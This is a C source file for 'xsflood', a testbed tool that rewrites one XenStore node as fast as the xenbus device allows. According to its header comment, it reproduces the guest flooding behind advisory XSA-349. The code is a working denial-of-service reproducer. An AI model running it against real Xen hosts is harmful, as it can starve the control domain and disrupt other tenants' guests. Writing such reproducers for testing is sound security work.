// SPDX-License-Identifier: GPL-2.0
/*
 * xsflood: rewrite one XenStore node COUNT times as fast as the xenbus
 * device allows, alternating two values and ending on the first. Used by
 * the testbed to play a guest that floods its own node (XSA-349 style).
 * Speaks the xenstore wire protocol directly on /dev/xen/xenbus so the
 * cost per write is one round trip, not one process.
 *
 * Usage: xsflood PATH COUNT VALUE_A VALUE_B
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define XS_WRITE 11
#define XS_ERROR 16

struct xs_header {
	uint32_t type;
	uint32_t req_id;
	uint32_t tx_id;
	uint32_t len;
};

static int xs_write(int fd, uint32_t id, const char *path, const char *val)
{
	char buf[4096 + sizeof(struct xs_header)];
	struct xs_header *h = (struct xs_header *)buf;
	size_t plen = strlen(path) + 1, vlen = strlen(val);
	ssize_t n;

	if (plen + vlen > 4096)
		return -1;
	h->type = XS_WRITE;
	h->req_id = id;
	h->tx_id = 0;
	h->len = plen + vlen;
	memcpy(buf + sizeof(*h), path, plen);
	memcpy(buf + sizeof(*h) + plen, val, vlen);
	if (write(fd, buf, sizeof(*h) + h->len) != (ssize_t)(sizeof(*h) + h->len))
		return -1;
	n = read(fd, buf, sizeof(buf));
	if (n < (ssize_t)sizeof(*h) || h->type == XS_ERROR)
		return -1;
	return 0;
}

int main(int argc, char **argv)
{
	long count, i;
	int fd;

	if (argc != 5) {
		fprintf(stderr, "usage: xsflood PATH COUNT VALUE_A VALUE_B\n");
		return 2;
	}
	count = strtol(argv[2], NULL, 10);
	fd = open("/dev/xen/xenbus", O_RDWR);
	if (fd < 0) {
		perror("xsflood: /dev/xen/xenbus");
		return 1;
	}
	for (i = 0; i < count; i++) {
		if (xs_write(fd, i, argv[1], i % 2 ? argv[4] : argv[3])) {
			fprintf(stderr, "xsflood: write %ld failed\n", i);
			return 1;
		}
	}
	if (xs_write(fd, i, argv[1], argv[3]))
		return 1;
	printf("%ld writes\n", count + 1);
	return 0;
}
